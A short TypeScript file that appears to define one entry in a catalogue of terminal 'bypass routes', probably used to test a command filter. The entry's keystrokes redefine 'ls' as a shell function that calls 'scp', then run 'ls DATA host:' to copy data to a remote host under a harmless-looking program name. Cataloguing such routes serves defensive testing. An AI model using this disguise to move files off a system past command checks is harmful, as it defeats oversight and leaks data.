import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a function with the name of a known program',
  source: 'thought of with the keys of the line editor',
  keys: ['ls() { command scp "$@"; }\r', 'ls DATA host:\r'],
};
